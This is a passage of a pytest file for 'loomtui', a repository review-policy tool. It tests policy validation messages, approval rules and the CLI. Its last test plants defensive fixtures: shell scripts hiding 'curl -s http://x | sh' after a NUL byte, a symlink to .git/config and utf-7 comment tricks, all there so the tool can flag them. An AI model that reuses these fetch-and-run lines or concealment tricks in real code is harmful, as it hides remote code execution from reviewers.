     ".loom/policy.yaml:10: rules[0].approvals: approvals only apply to decision: require (this rule is block)"),
    (GROUPS + RULE.replace("- name: r", "- name: default"),
     ".loom/policy.yaml:7: rules[0].name: 'default' is reserved"),
    (GROUPS + RULE + RULE[len("rules:\n"):],
     ".loom/policy.yaml:11: rules[1].name: duplicate rule name 'r' (first defined on line 7)"),
    (GROUPS + RULE.replace("    when:", "    stage: claim\n    when:").replace(
        'paths: ["a/**"]', 'paths: ["a/**"], lines_changed: {over: 10}'),
     ".loom/policy.yaml:9: rules[0].when.lines_changed: is not known at claim time"),
    (GROUPS + RULE.replace("    when:", "    stage: merge\n    when:"),
     "rules[0].stage: must be one of claim, post-gate, both (got 'merge')"),
    (GROUPS + RULE.replace('paths: ["a/**"]', "lines_changed: {over: 10, under: 11}"),
     ".loom/policy.yaml:8: rules[0].when.lines_changed.under: no number of lines is over 10 and under 11"),
    (GROUPS + RULE.replace('paths: ["a/**"]', "lines_changed: {}"),
     "rules[0].when.lines_changed: name `over: N`"),
    (GROUPS + RULE.replace("    when:", "    risk: severe\n    when:"),
     "rules[0].risk: must be one of low, medium, high, critical (got 'severe')"),
    (GROUPS + RULE.replace("{groups: [leads], count: 1}", "{codeowners: true}"),
     ".loom/policy.yaml:10: rules[0].approvals.codeowners: codeowners: true needs a CODEOWNERS file"),
    (GROUPS + RULE.replace("{groups: [leads], count: 1}", "{count: 1}"),
     ".loom/policy.yaml:10: rules[0].approvals.groups: required key missing"),
    (GROUPS + "groups_extra: 1\n", ".loom/policy.yaml:6: groups_extra: unknown key (did you mean 'groups'?)"),
    ("groups:\n  anyone: [a@example.com]\n", ".loom/policy.yaml:2: groups.anyone: 'anyone' is built in"),
    ("groups:\n  leads: [a@example.com, '']\n", ".loom/policy.yaml:2: groups.leads[1]: must not be empty"),
    (GROUPS + "overrides: {groups: [leeds]}\n",
     (".loom/policy.yaml:6: overrides.groups[0]: unknown group 'leeds' (defined: leads, payments, platform; "
     "did you mean 'leads'?)")),
    (GROUPS + "overrides: {groups: [leads], max_hours: 0}\n",
     ".loom/policy.yaml:6: overrides.max_hours: must be between 1 and 8760 (got 0)"),
    (GROUPS + "default: {decision: auto_approve}\n",
     ".loom/policy.yaml:6: default.decision: must be one of require, block (got 'auto_approve')"),
    (GROUPS + "default: {approvals: {groups: [leads], codeowners: true}}\n",
     ".loom/policy.yaml:6: default.approvals.codeowners: unknown key"),
    (GROUPS + "separation_of_duties: maybe\n",
     ".loom/policy.yaml:6: separation_of_duties: expected true or false (got 'maybe')"),
    (GROUPS + "codeowners: ../CODEOWNERS\n", ".loom/policy.yaml:6: codeowners: must be a path inside the repository"),
])
def test_every_error_names_file_and_line(text: str, message: str) -> None:
    assert message in error_of(text)


@pytest.mark.parametrize(("text", "first", "second"), [
    # Read out of file order: a rule's decision before its conditions.
    ('rules:\n  - name: r\n    risk: high\n    when: {paths: "docs/[ab"}\n    decision: blok\n',
     ".loom/policy.yaml:4: rules[0].when.paths: invalid glob", ".loom/policy.yaml:5: rules[0].decision:"),
    # separation_of_duties is read before merge.
    ("groups: {leads: [a@example.com]}\nrules: []\nversion: 1\nmerge: sometimes\nseparation_of_duties: maybe\n",
     ".loom/policy.yaml:4: merge: must be one of", ".loom/policy.yaml:5: separation_of_duties: expected true"),
    # An unknown key used to stop the reading before the values above it were checked.
    ("version: 1\ngroups: {leads: [a@example.com]}\nrules: []\nmerge: sometimes\nmerj: auto\n",
     ".loom/policy.yaml:4: merge: must be one of", ".loom/policy.yaml:5: merj: unknown key (did you mean 'merge'?)"),
])
def test_several_errors_name_the_first_line_and_validate_lists_all(
    text: str, first: str, second: str, repo: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """Errors on lines 4 and 5: the message starts at line 4 (however the parser reads), and
    `policy validate` prints both, each as file:line, in line order."""
    message = error_of(text)
    assert message.startswith(first)
    assert message.endswith("(1 more problem: line 5)")
    (repo / ".loom").mkdir(exist_ok=True)
    (repo / PATH).write_text(text)
    assert main(["-C", str(repo), "policy", "validate"]) == 2
    errors = capsys.readouterr().err.splitlines()
    assert len(errors) == 2
    assert errors[0].startswith(f"loomtui: error: {first}")
    assert errors[1].startswith(f"loomtui: error: {second}")
    assert main(["-C", str(repo), "policy", "validate", "--json"]) == 2
    listed = json.loads(capsys.readouterr().out)
    assert listed["ok"] is False and len(listed["problems"]) == 2
    assert listed["problems"][0].startswith(first) and listed["problems"][1].startswith(second)
    assert listed["error"] == f"{listed['problems'][0]} (and 1 more)"  # as every failed command's JSON has


def test_errors_in_several_rules_are_all_listed_but_a_bad_group_is_not_blamed_on_its_users() -> None:
    """A broken `groups:` section is one error, not one more at every rule naming a group."""
    text = (
        "groups: [leads]\n"
        "rules:\n"
        "  - {name: a, when: {paths: x}, decision: require, approvals: {groups: [leads]}}\n"
        "  - {name: b, when: {paths: y}, decision: maybe}\n"
        "  - {name: c, when: {pathz: z}, decision: block}\n"
    )
    with pytest.raises(ConfigError) as info:
        parse_policy(text, PATH)
    problems = getattr(info.value, "problems", ())
    assert [(problem.line, problem.detail.split(":")[0]) for problem in problems] == [
        (1, "groups"), (4, "rules[1].decision"), (5, "rules[2].when.pathz"),
    ]


def test_an_allowed_signers_file_that_cannot_check_a_signature_is_an_error_at_its_line(tmp_path: Path) -> None:
    """It passed `policy validate`, then every decision was refused ("no nonexist to check it against")."""
    assert error_of(GROUPS + "decisions: {require_signature: true, allowed_signers: nonexist}\n", tmp_path) == (
        ".loom/policy.yaml:6: decisions.allowed_signers: nonexist: file not found; every decision would be "
        "refused (require_signature)")
    assert error_of(GROUPS + "decisions: {allowed_signers: /etc/passwd}\n", tmp_path) == (
        ".loom/policy.yaml:6: decisions.allowed_signers: must be a path inside the repository, relative to its "
        "root (got '/etc/passwd')")
    (tmp_path / ".loom").mkdir()
    signers = tmp_path / ".loom" / "allowed_signers"
    signers.write_text("# who may sign\nlead@example.com garbage\n")
    assert error_of(GROUPS + "decisions: {require_signature: true}\n", tmp_path) == (
        ".loom/policy.yaml:6: decisions.require_signature: .loom/allowed_signers: line 2: not an allowed_signers "
        "line (who, then a key type and the key); every decision would be refused (require_signature)")
    signers.write_text('lead@example.com namespaces="loomtui-decision" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x\n')
    assert parse_policy(GROUPS + "decisions: {require_signature: true}\n", PATH, tmp_path).decisions.require_signature
    assert not parse_policy(GROUPS, PATH, tmp_path / "elsewhere").decisions.require_signature  # none asked: none read


def test_a_missing_codeowners_file_is_an_error_at_the_policy_line(tmp_path: Path) -> None:
    assert error_of(GROUPS + "codeowners: .github/CODEOWNERS\n", tmp_path) == (
        ".loom/policy.yaml:6: codeowners: .github/CODEOWNERS: file not found")
    (tmp_path / "CODEOWNERS").write_text("# owners\n\n/x/ owner-without-at\n")
    assert error_of(GROUPS + "codeowners: CODEOWNERS\n", tmp_path) == (
        "CODEOWNERS:3: invalid owner 'owner-without-at' (use @user, @org/team or an email address)")


def test_one_rule_under_two_names_is_a_warning() -> None:
    """A rule copied under a new name: both fired, and a change was explained by each, as if two things held it."""
    policy = policy_of("""\
- name: docs
  when: {paths: ["docs/**"]}
  decision: require
  approvals: {groups: [leads], count: 1}
- name: docs-again
  when: {paths: ["docs/**"]}
  decision: require
  approvals: {groups: [leads], count: 1}
- name: docs-by-two
  when: {paths: ["docs/**"]}
  decision: require
  approvals: {groups: [leads], count: 2}
""")
    assert policy.warnings[-1] == (".loom/policy.yaml:11: rules: docs-again is docs (line 7) again under another "
                                   "name: keep one")
    assert not any("docs-by-two is" in warning for warning in policy.warnings)  # another rule: it asks for two


def test_approvals_that_can_never_be_met_are_warnings_not_errors() -> None:
    policy = policy_of("""\
- name: too-many
  when: {paths: ["a/**"]}
  decision: require
  approvals: {groups: [leads], count: 3}
- name: all-of-them
  when: {paths: ["b/**"]}
  decision: require
  approvals: {groups: [leads, platform], count: 4}
""")
    assert policy.warnings == (
        (".loom/policy.yaml:10: rules[0].approvals.count: needs 3 approvals but leads has 2 members: "
        "it can never be met (only an override can pass it)"),
        (".loom/policy.yaml:14: rules[1].approvals.count: needs 4 approvals from leads and platform, 4 members: "
        "a change authored by one of them can never be met under separation of duties"),
    )
    without_sod = policy_of("""\
- name: all-of-them
  when: {paths: ["b/**"]}
  decision: require
  approvals: {groups: [leads], count: 2}
""", head=GROUPS + "separation_of_duties: false\n")
    assert without_sod.warnings == ()


def test_a_single_string_is_a_one_item_list() -> None:
    policy = policy_of("""\
- name: r
  when: {paths: "a/**", runtime: claude}
  decision: require
  approvals: {groups: leads}
""")
    assert policy.rules[0].when.paths is not None and policy.rules[0].when.paths.patterns == ("a/**",)
    assert policy.rules[0].when.runtime == ("claude",)
    assert policy.rules[0].approvals is not None and policy.rules[0].approvals.groups == ("leads",)


def test_change_facts_reject_unknown_stages_and_gate_results() -> None:
    with pytest.raises(ValueError, match="stage"):
        ChangeFacts("merge", ())  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="gate results"):
        ChangeFacts("post-gate", (), gates={"tests": "ok"})


# --- the sample repository and `policy test` fixtures ------------------------------------------------


def test_the_sample_policy_validates_without_warnings() -> None:
    policy = load_policy(SAMPLE_REPO)
    assert policy.source == ".loom/policy.yaml" and policy.warnings == ()
    assert policy.codeowners is not None
    owners = {owner for rule in policy.codeowners.rules for owner in rule.owners}
    assert {owner.lstrip("@") for owner in owners} <= set(policy.groups)


def test_the_sample_policy_tests_pass() -> None:
    policy = load_policy(SAMPLE_REPO)
    cases = load_policy_tests(SAMPLE_REPO / ".loom" / "policy-tests.yaml", "policy-tests.yaml")
    assert len(cases) >= 10
    failed = {case.name: run_policy_case(policy, case).failures for case in cases}
    assert {name: failures for name, failures in failed.items() if failures} == {}


def test_policy_cases_pass_and_fail_with_reasons() -> None:
    policy = load_policy(FIXTURES, "policy.yaml")
    passing = load_policy_tests(FIXTURES / "cases-pass.yaml", "cases-pass.yaml")
    assert all(run_policy_case(policy, case).passed for case in passing)
    results = [run_policy_case(policy, case) for case in load_policy_tests(
        FIXTURES / "cases-fail.yaml", "cases-fail.yaml")]
    assert [result.passed for result in results] == [True, False, False]
    assert results[1].failures == (
        "outcome: expected auto_approve, got require",
        "risk: expected low, got high",
        "rules: the policy has no rule 'no-such-rule'",
        "rules: expected docs, no-such-rule, got docs, payments",
    )
    assert results[2].failures == (
        "met: expected met, got unmet (unmet: payments: 1 of 2 approvals from payments (bob@example.com))",)
    assert results[2].case.line == 8


@pytest.mark.parametrize(("text", "message"), [
    ("", "cases.yaml: no cases"),
    ("cases: []\n", "cases.yaml:1: cases: must list at least one case"),
    ("cases:\n  - name: a\n    change: {paths: [x]}\n", "cases.yaml:2: cases[0].expect: required key missing"),
    ("cases:\n  - name: a\n    change: {pahts: [x]}\n    expect: {outcome: block}\n",
     "cases.yaml:3: cases[0].change.pahts: unknown key (did you mean 'paths'?)"),
    ("cases:\n  - name: a\n    change: {gates: {tests: green}}\n    expect: {outcome: block}\n",
     "cases.yaml:3: cases[0].change.gates.tests: must be one of passed, failed, error (got 'green')"),
    ("cases:\n  - name: a\n    change: {}\n    expect: {outcome: allow}\n",
     "cases.yaml:4: cases[0].expect.outcome: must be one of auto_approve, require, block (got 'allow')"),
    ("cases:\n  - {name: a, change: {}, expect: {outcome: block}}\n"
     "  - {name: a, change: {}, expect: {outcome: block}}\n",
     "cases.yaml:3: cases[1].name: duplicate case name 'a' (first on line 2)"),
])
def test_policy_case_file_errors(text: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_policy_tests(text, "cases.yaml")
    assert message in str(info.value)


# --- the command line -----------------------------------------------------------------------------------


@pytest.fixture
def sample(repo: Path) -> Path:
    """The test repository with the sample repo's policy, CODEOWNERS and cases."""
    shutil.copytree(SAMPLE_REPO / ".loom", repo / ".loom")
    shutil.copy(SAMPLE_REPO / "CODEOWNERS", repo / "CODEOWNERS")
    return repo


def test_cli_policy_validate(sample: Path, capsys: pytest.CaptureFixture[str],
                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOOM_USER", "lead@example.com")
    assert main(["-C", str(sample), "policy", "validate"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("OK: .loom/policy.yaml: 13 rules; 4 groups; default: 1 approval from leads;")
    assert out[-1] == "you (lead@example.com): groups leads; may override a block: yes"
    policy = sample / ".loom" / "policy.yaml"
    policy.write_text(policy.read_text().replace("decision: block", "decision: blok", 1))
    assert main(["-C", str(sample), "policy", "validate"]) == 2
    assert capsys.readouterr().err == (
        "loomtui: error: .loom/policy.yaml:85: rules[9].decision: must be one of auto_approve, require, block "
        "(got 'blok'; did you mean 'block'?)\n")


def test_cli_policy_validate_warns_of_a_rule_naming_no_runtime(sample: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`runtime: clade` validated without a word: a rule that never applies."""
    policy = sample / ".loom" / "policy.yaml"
    policy.write_text(policy.read_text().replace(
        "\nmerge: auto", "\n  - name: claude-docs\n    when: {runtime: clade}\n    decision: block\nmerge: auto", 1))
    assert main(["-C", str(sample), "policy", "validate"]) == 0
    out = capsys.readouterr().out
    assert "rule 'claude-docs': runtime 'clade' names no runtime here (did you mean 'claude'?); the rule never applies" \
        in out, out
    # Not committed as it is: this machine judges by it, CI and the other clones by the committed one.
    assert "warning: .loom/policy.yaml is " in out and "while `loomtui gate` in CI and every other clone judge by " \
           "the committed one" in out, out
    subprocess.run(["git", "add", "-A"], cwd=sample, check=True)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "policy"], cwd=sample,
                   check=True)
    assert main(["-C", str(sample), "policy", "validate"]) == 0
    assert "judge by the committed one" not in capsys.readouterr().out
    # A gate misspelt: the red-gates block never fired, and validate said OK.
    policy.write_text(policy.read_text().replace("when: {gates_failed: [\"*\"]}", "when: {gates_failed: [\"test\"]}"))
    assert main(["-C", str(sample), "policy", "validate"]) == 0
    out = capsys.readouterr().out
    assert "rule 'failing-gates': gates_failed 'test' names no gate here (did you mean 'tests'?); the rule never " \
           "applies to it" in out, out


def test_cli_policy_validate_without_a_policy(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-C", str(repo), "policy", "validate"]) == 0
    assert capsys.readouterr().out.startswith("OK: no policy file: the built-in default applies")


def test_a_policy_deleted_but_not_committed_judges_nothing_with_the_default(
        sample: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Deleted uncommitted, the built-in default (one approval from anyone) judged a change the committed policy
    gives to two people, while `policy validate` said the committed one still applied."""
    config = sample / ".loom" / "loom.yaml"  # as `init` writes it: the policy file where loomtui looks for it
    config.write_text(config.read_text().replace("policy: .loom/policy.yaml\n", ""))
    subprocess.run(["git", "add", "-A"], cwd=sample, check=True)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "policy"], cwd=sample,
                   check=True)
    (sample / ".loom" / "policy.yaml").unlink()
    assert main(["-C", str(sample), "policy", "validate"]) == 2
    said = ".loom/policy.yaml: the policy file is missing from this checkout but committed on HEAD, so nothing is " \
           "judged until it is back (never by the built-in default): `git checkout HEAD -- .loom/policy.yaml`, or " \
           "commit its deletion to the main branch"
    assert capsys.readouterr().err.strip().endswith(said)
    with pytest.raises(ConfigError, match="committed on HEAD"):
        load_policy(sample)
    # A branch from before the team adopted loomtui, checked out: the main branch's policy is the one missing.
    subprocess.run(["git", "checkout", "-q", "HEAD", "--", ".loom/policy.yaml"], cwd=sample, check=True)
    subprocess.run(["git", "switch", "-q", "--orphan", "before-loomtui"], cwd=sample, check=True)
    assert not (sample / ".loom" / "policy.yaml").exists()
    with pytest.raises(ConfigError, match="committed on main, .*`git checkout main -- .loom/policy.yaml`"):
        load_policy(sample)


def test_cli_policy_test(sample: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(sample)
    assert main(["policy", "test", ".loom/policy-tests.yaml"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert all(line.startswith("PASS  ") for line in out[:-1])
    assert out[-1].endswith("passed, 0 failed (.loom/policy-tests.yaml against .loom/policy.yaml)")
    shutil.copy(FIXTURES / "cases-fail.yaml", sample / "cases.yaml")
    shutil.copy(FIXTURES / "policy.yaml", sample / "fixture-policy.yaml")
    shutil.copy(FIXTURES / "CODEOWNERS", sample / "CODEOWNERS")
    assert main(["policy", "test", "cases.yaml", "--policy", "fixture-policy.yaml"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[:4] == [
        "PASS  docs are auto-approved",
        "FAIL  wrongly expects payments to pass on its own",
        "      cases.yaml:5",
        "      outcome: expected auto_approve, got require",
    ]
    assert "      | require at post-gate (risk high): 1 requirement" in out
    assert out[-1] == "1 passed, 2 failed (cases.yaml against fixture-policy.yaml)"
    assert main(["policy", "test", "missing.yaml"]) == 2
    assert capsys.readouterr().err == "loomtui: error: missing.yaml: file not found\n"


def test_evaluation_is_plain_data() -> None:
    """The TUI, the escalation queue and `policy explain` read the same frozen values."""
    evaluation = evaluate(policy_of(PAYMENTS_AND_DOCS), post("payments/a.py"))
    assert isinstance(evaluation, Evaluation)
    with pytest.raises(AttributeError):
        evaluation.outcome = "block"  # type: ignore[misc]


def test_a_policy_path_that_names_a_missing_file_is_an_error(tmp_path: Path) -> None:
    from loomtui.errors import ConfigError
    from loomtui.governance.policy import load_policy

    with pytest.raises(ConfigError, match="nope.yaml: the policy file named by `policy:`"):
        load_policy(tmp_path, "nope.yaml")
    assert load_policy(tmp_path).source is None  # the usual path, absent: the built-in default


def test_a_change_to_what_another_sandbox_holds_is_a_high_risk_rule_a_lead_approves() -> None:
    """The agent's commit of a held region was refused by its hook and saved by loomtui at its end: the
    review said "risk normal; default: no rule applies", the hold a note, and anyone the default named
    could approve it. Now the hold is a rule of its own, high risk, for those who may force a claim."""
    policy = policy_of("- {name: api, when: {paths: ['api/**']}, decision: require, "
                       "approvals: {groups: [platform], count: 1}}\n"
                       "- {name: no-secrets, when: {paths: ['**/*.pem']}, decision: block}\n",
                       head=GROUPS + "overrides: {groups: [leads]}\n")
    held = "calc.py::mul (sandbox ab12, claim #3)"
    evaluation = with_held_elsewhere(policy, evaluate(policy, post("api/x.py", "calc.py")), held)
    assert (evaluation.outcome, evaluation.risk) == ("require", "high")
    assert evaluation.rule_names()[-1] == "held-by-another (built in)" and held in evaluation.applied[-1].why
    assert not decision_met(policy, evaluation, ["carol@example.com"], None)[0]  # the api rule's alone
    assert decision_met(policy, evaluation, ["carol@example.com", "mia@example.com"], None)[0]
    blocked = with_held_elsewhere(policy, evaluate(policy, post("a.pem")), held)
    assert (blocked.outcome, blocked.risk, blocked.requirements) == ("block", "high", ())
    assert with_held_elsewhere(default_policy(), evaluate(default_policy(), post("a.py")), held).requirements[-1].anyone


def test_the_policy_view_says_a_condition_in_words_not_pythons_true(billing: Path) -> None:
    """The view's When column read `signature changed True`, `breaks with another sandbox True`."""
    from loomtui.governance.policy import load_policy
    from loomtui.tui.screens.governance import _when

    rules = {rule.name: _when(rule) for rule in load_policy(billing).rules}
    assert "True" not in " ".join(rules.values()), rules
    assert any(when.endswith("signature changed") for when in rules.values()), rules


def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
    """A link named docs/architecture.md pointing at .git/config passed as a docs edit, auto-approved and merged
    (the gates export no links); a `coding: utf-7` line hid `Ledger.post = ...` in a comment from the diff."""
    from loomtui.governance.gitfacts import change_facts
    from tests.conftest import demo_repo

    root = demo_repo(tmp_path)
    policy = load_policy(root)

    def commit(message: str, *gitlinks: str) -> str:
        subprocess.run(["git", "add", "-A"], cwd=root, check=True)
        for gitlink in gitlinks:
            subprocess.run(["git", "update-index", "--add", "--cacheinfo", gitlink], cwd=root, check=True)
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=agent@example.com", "commit", "-qm", message],
                       cwd=root, check=True)
        return subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, check=True, capture_output=True,
                              text=True).stdout.strip()

    base = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, check=True, capture_output=True,
                          text=True).stdout.strip()
    (root / "docs" / "runbook.md").write_text("reworded\n")
    plain = commit("docs: reword")
    assert (facts := change_facts(root, base, plain)).unusual == ()
    assert evaluate(policy, facts).outcome == "auto_approve"  # a docs edit stays the docs rule's
    (root / "docs" / "architecture.md").unlink()
    (root / "docs" / "architecture.md").symlink_to("../.git/config")
    (root / "docs" / "tidy.sh").write_text("#!/bin/sh\n")
    (root / "docs" / "tidy.sh").chmod(0o755)
    (root / "docs" / "notes.py").write_text("# -*- coding: utf-7 -*-\n# see +AAo-Ledger.post +AD0- None\n")
    (root / "docs" / "long.py").write_text("#" * 5000 + "\n# coding: utf-7\n")  # line 2 counts past 4 KiB
    (root / "docs" / "emacs.py").write_text("# -*- coding: utf-8-unix -*-\nx = 1\n")  # Python reads UTF-8
    (root / "docs" / "runner").write_text("#!/usr/bin/env python3\n# coding: utf-7\n")  # a script with no .py
    (root / "docs" / "tool.sh").write_text("#!/usr/bin/env python3\n# -*- coding: utf-7 -*-\n")  # nor this one
    (root / "docs" / "cr.py").write_bytes(b"def f(x):\n    # keep rounding\r    x = x * 100\n    return x\n")
    (root / "docs" / "plain.sh").write_text("#!/bin/sh\n# coding: utf-7 means nothing here\n")
    (root / "payments" / "__pycache__").mkdir(exist_ok=True)
    (root / "payments" / "__pycache__" / "refunds.cpython-311.pyc").write_bytes(b"\xa7\r\r\n other code")
    subprocess.run(["git", "add", "-f", "payments/__pycache__/refunds.cpython-311.pyc"], cwd=root, check=True)
    (root / "payments" / "fast.so").write_bytes(b"\x7fELF")
    # One NUL in a script: "Binary files differ" and "+0 -0" to the lead, yet bash runs every line after it.
    (root / "docs" / "deploy.sh").write_bytes(b"#!/bin/bash\necho deploying\n# notes\0\ncurl -s http://x | sh\n")
    # Nor hidden by one odd byte beside it (a Latin-1 é, a control byte), a byte-order mark in front that is no
    # UTF-16, or a size past what is read whole: each was unflagged, "- -" in the diff.
    (root / "docs" / "setup.sh").write_bytes(b"#!/bin/bash\n# caf\xe9\0\ncurl -s http://x | sh\n")
    (root / "docs" / "ctl.sh").write_bytes(b"#!/bin/bash\n# \x01 note\0\ncurl -s http://x | sh\n")
    (root / "docs" / "bom.sh").write_bytes(b"\xff\xfeecho RAN\n# \0\ncurl -s http://x | sh\n")
    (root / "docs" / "big.sh").write_bytes(b"#!/bin/bash\n# \0\ncurl -s http://x | sh\n" + b"# pad\n" * 200_000)
    (root / "docs" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\x00")  # binary: no text
    # Binary by design, its metadata text with a few NULs (an image's XMP, a gettext catalogue): no flag (a logo
    # went to a lead as "text with a NUL byte").
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b"<rdf:Description about=''/>" * 300 + b"</x:xmpmeta>"
    (root / "docs" / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe1\x23\x00Exif\0\0" + xmp + b"\0\xff\xd9")
    (root / "docs" / "messages.mo").write_bytes(b"\xde\x12\x04\x95\0\0\0\0" + b"msgid text " * 500)
    (root / "docs" / "wide.txt").write_bytes("\ufeffhello".encode("utf-16-le"))  # UTF-16's NULs: text, not hidden
    hostile = commit("docs: tidy", f"160000,{base},docs/vendor")
    facts = change_facts(root, base, hostile)
    assert set(facts.unusual) == {"symlink docs/architecture.md -> ../.git/config", "docs/notes.py declares coding utf-7",
                                  "docs/long.py declares coding utf-7", "docs/runner declares coding utf-7",
                                  "docs/tool.sh declares coding utf-7",
                                  "docs/cr.py holds a carriage return or form feed Python reads as a line break or an "
                                  "indentation, which a diff does not show",
                                  "an executable new file: docs/tidy.sh", f"submodule docs/vendor at {base[:12]}",
                                  "committed though .gitignore ignores it: payments/__pycache__/refunds.cpython-311.pyc",
                                  "compiled code Python may run in place of its source: "
                                  "payments/__pycache__/refunds.cpython-311.pyc",
                                  "compiled code Python may run in place of its source: payments/fast.so",
                                  *(f"docs/{name} is text with a NUL byte in it, which git shows as a binary file: "
                                    "none of it is in the diff"
                                    for name in ("deploy.sh", "setup.sh", "ctl.sh", "bom.sh", "big.sh"))}
    judged = evaluate(policy, facts)
    assert (judged.outcome, judged.risk) == ("require", "high")
    unusual = judged.applied[-1]
    assert unusual.name == "unusual-files (built in)" and "symlink docs/architecture.md -> ../.git/config" in unusual.why
    assert judged.requirements[-1].rule == unusual.name and judged.requirements[-1].groups == policy.override_groups
